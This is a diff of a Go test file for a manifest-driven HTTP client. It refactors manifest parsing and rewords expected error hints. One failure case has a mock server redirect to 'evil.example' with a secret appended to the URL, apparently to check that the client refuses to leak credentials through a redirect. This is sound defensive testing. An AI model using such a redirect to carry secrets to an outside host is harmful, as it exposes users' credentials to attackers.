@@ -40,10 +40,7 @@ var acmeYAML string
 // acme is the manifest of the tests, and a table of it.
 func acme(t *testing.T, table string) (*manifest.Manifest, *manifest.Table) {
 	t.Helper()
-	m, err := manifest.Parse("acme.yaml", []byte(acmeYAML))
-	if err != nil {
-		t.Fatal(err)
-	}
+	m := parsed(t, acmeYAML)
 	if table == "keys" {
 		return m, &m.Keys().Table
 	}
@@ -153,11 +150,11 @@ func TestFailures(t *testing.T) {
 			[]string{`"children" nests more than 100 deep`}, "acme.yaml", 0},
 		{"redirect", func(w http.ResponseWriter, r *http.Request) {
 			http.Redirect(w, r, "https://evil.example/x?k="+secret, http.StatusFound)
-		}, CodeConfiguration, []string{"302 Found and sends the request to evil.example"}, "Set the base URL", 0},
+		}, CodeConfiguration, []string{"302 Found and sends the request to evil.example"}, "Correct the base URL", 0},
 		{"redirect to itself", func(w http.ResponseWriter, r *http.Request) {
 			http.Redirect(w, r, "/elsewhere", http.StatusMovedPermanently)
 		},
-			CodeConfiguration, []string{"sends the request elsewhere"}, "Set the base URL", 0},
+			CodeConfiguration, []string{"sends the request elsewhere"}, "Correct the base URL", 0},
 		{"huge", func(w http.ResponseWriter, _ *http.Request) {
 			for range 100 {
 				fmt.Fprint(w, strings.Repeat(" ", 1<<16))
